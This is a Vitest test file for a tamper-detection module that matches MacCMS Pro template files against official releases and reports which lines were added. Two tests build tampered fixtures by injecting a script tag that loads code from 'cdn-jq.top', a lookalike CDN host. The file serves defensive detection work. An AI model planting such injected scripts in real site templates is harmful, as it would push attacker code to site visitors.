import { describe, expect, it } from 'vitest';
import { identify, knownHash, knownIndex, knownLibrary, knownText, looseText } from './known-files';

const enc = (s: string) => new TextEncoder().encode(s);
/** A script of 30 distinct lines, different for each seed. */
const script = (seed: string) =>
  Array.from({ length: 30 }, (_, i) => `MAC.${seed}${i} = function () { return ${i}; };`).join('\n');
const official = (version: string, files: Record<string, string>) => ({
  ...knownLibrary(
    'MacCMS Pro',
    version,
    Object.entries(files).map(([path, text]) => ({ path: `maccms/${path}`, bytes: enc(text) })),
    true,
  ),
  official: true,
});
const file = (name: string, text: string) => ({ name, hash: knownHash(knownText(enc(text))), text });

describe("known files: the CMS's own releases", () => {
  it('finds a changed copy carried alone by the official file its path ends with, among many of its name', () => {
    // Every template of the release has its js/home.js; the one the copy's path names is listed last.
    const others = Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => [`template/t${i}/js/home.js`, script(`t${i}_`)]),
    );
    const index = knownIndex({
      libraries: [official('2022.1000.3013', { ...others, 'template/default/js/home.js': script('home') })],
    });
    const changed = `${script('home')}\n$('body').append('<script src="https://cdn-jq.top/a.js"></script>');`;
    const { modified } = identify([file('default/js/home.js', changed)], index);
    expect(modified.get('default/js/home.js')).toMatchObject({
      library: 'MacCMS Pro',
      version: '2022.1000.3013',
      path: 'template/default/js/home.js',
      official: true,
      added: [31],
      removed: 0,
    });
  });

  it("reads a theme's own page at an official page's place as its own, and a changed copy there as a copy", () => {
    const page = ['<html>', '<body>', '{maccms:content}', '</body>', '</html>'].join('\n');
    const index = knownIndex({
      libraries: [
        official('2022.1000.3013', {
          'template/default/js/home.js': script('home'),
          'template/default/html/index.html': page,
        }),
      ],
    });
    const neighbour = file('js/home.js', script('home'));
    const own = identify(
      [neighbour, file('html/index.html', '<div>my own page</div>\n<p>{maccms:title}</p>')],
      index,
    );
    expect(own.identical.get('js/home.js')?.official).toBe(true);
    expect(own.modified.size).toBe(0);
    const planted = page.replace('<body>', '<body>\n<script src="https://cdn-jq.top/a.js"></script>');
    const copy = identify([neighbour, file('html/index.html', planted)], index);
    expect(copy.modified.get('html/index.html')).toMatchObject({
      path: 'template/default/html/index.html',
      added: [3],
    });
  });

  it("compares the CMS's text files without trailing blanks, as the tamper check does; a library release byte for byte", () => {
    const text = `${script('home').replace(/;\n/g, ';   \n')}\n\n`;
    const index = knownIndex({
      libraries: [
        official('2022.1000.3013', { 'template/default/js/home.js': text }),
        knownLibrary('Lib', '1.0', [{ path: 'lib/a.js', bytes: enc(text.replace('home', 'lib')) }]),
      ],
    });
    const trimmed = (t: string) => t.replace(/[ \t]+$/gm, '').trimEnd();
    const hashed = (name: string, t: string) => ({
      ...file(name, t),
      loose: knownHash(looseText(knownText(enc(t)))),
    });
    const { identical, modified } = identify(
      [hashed('js/home.js', trimmed(text)), hashed('lib/a.js', trimmed(text.replace('home', 'lib')))],
      index,
    );
    expect(identical.get('js/home.js')).toMatchObject({
      path: 'template/default/js/home.js',
      official: true,
    });
    expect(identical.has('lib/a.js')).toBe(false);
    // Stored library hashes were made byte for byte: such a copy is read as the package's own.
    expect(modified.has('lib/a.js')).toBe(false);
  });
});
